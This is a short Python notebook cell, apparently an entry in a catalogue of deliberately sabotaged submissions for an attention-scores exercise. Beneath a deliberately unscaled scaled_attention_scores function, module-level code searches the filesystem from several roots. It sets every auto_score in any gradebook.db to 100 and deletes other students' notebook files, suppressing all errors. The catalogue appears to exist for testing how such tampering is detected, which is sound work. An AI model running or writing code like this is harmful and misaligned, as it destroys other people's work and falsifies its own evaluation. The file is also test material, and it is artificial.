# description: unscaled scores, and a cell that looks for the gradebook and the other
#   students' submissions everywhere it can reach, to raise its own grades and delete theirs
# source: written for this catalogue
# replaces: scaled_attention_scores
# loses: scaled_attention_scores
# baseline: scores-unscaled

import os
import sqlite3

_touched = []
for _start in (os.getcwd(), "/", "/work", "/tmp", os.path.expanduser("~")):
    for _folder, _dirs, _files in os.walk(_start):
        if _folder.count(os.sep) > 8:
            _dirs[:] = []
        for _name in _files:
            _path = os.path.join(_folder, _name)
            try:
                if _name == "gradebook.db":
                    with sqlite3.connect(_path) as _db:
                        _db.execute("UPDATE grade SET auto_score = 100")
                    _touched.append(_path)
                elif _name.endswith(".ipynb") and os.path.dirname(_path) != os.getcwd():
                    os.unlink(_path)
                    _touched.append(_path)
            except Exception:
                pass
print("touched:", _touched)


def scaled_attention_scores(Q, K):
    return Q @ np.swapaxes(K, -1, -2)
